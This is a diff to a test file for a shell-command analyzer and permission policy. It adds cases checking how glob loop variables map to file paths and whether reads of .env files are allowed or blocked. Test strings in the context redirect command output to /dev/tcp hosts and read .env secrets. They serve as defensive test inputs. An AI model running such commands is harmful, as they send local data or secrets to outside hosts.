@@ -195,6 +195,24 @@ commands:
     expect(analyzer.analyze('npx rimraf dist').invocations.flatMap((item) => item.canonical)).toContain('rm --recursive --force dist');
   });
 
+  // `for f in *.ts`: each value is a name the pattern matches, in double quotes (unquoted, it
+  // is split and globbed again: any name); reassigned, it is what it was set to; after the loop, unknown.
+  test('a loop over a pathname pattern binds its variable to the pattern', () => {
+    const paths = (line: string) => analyzer.analyze(line).files.map((item) => item.path);
+    expect(paths('for f in *.ts; do npx prettier --write "$f"; done')).toEqual(['*.ts']);
+    expect(paths('for f in src/*.ts; do cat "${f}" > "$f.bak"; done')).toEqual(['src/*.ts.bak', 'src/*.ts']);
+    expect(paths('for f in *.ts; do (cat "$f"); done')).toEqual(['*.ts']);
+    expect(paths('for f in *.ts; do cat $f; done')).toEqual(['**']);
+    expect(paths('for f in *.ts; do cat "${f%.ts}"; done')).toEqual(['**']);
+    expect(paths('for f in *.ts; do f=.env; cat "$f"; done')).toEqual(['.env']);
+    expect(paths('for f in *.ts; do read -r f < x; cat "$f"; done')).toEqual(['x', '**']);
+    expect(paths('for f in *.ts; do :; done; cat "$f"')).toEqual(['**']);
+    const reads = policyOf('metadata: {id: r, title: r, version: 1}\ncommands:\n  allow: ["cat *"]\nfilesystem:\n  block_read: ["**/.env"]\n');
+    expect(decide('for f in *.ts; do cat "$f"; done', reads).decision).toBe('allow');
+    expect(decide('for f in *.env .env; do cat "$f"; done', reads).decision).toBe('block');
+    expect(decide('for f in *.ts; do cat $f; done', reads).decision).toBe('require_approval');
+  });
+
   test('a redirect to /dev/tcp or /dev/udp connects to a host the line names', () => {
     for (const line of ['git diff > /dev/tcp/203.0.113.7/80', 'ls >/dev/udp/h/53', 'cat < /dev/tcp/h/80', 'h=x; echo > "/dev/tcp/$h/1"']) {
       const analysis = analyzer.analyze(line);
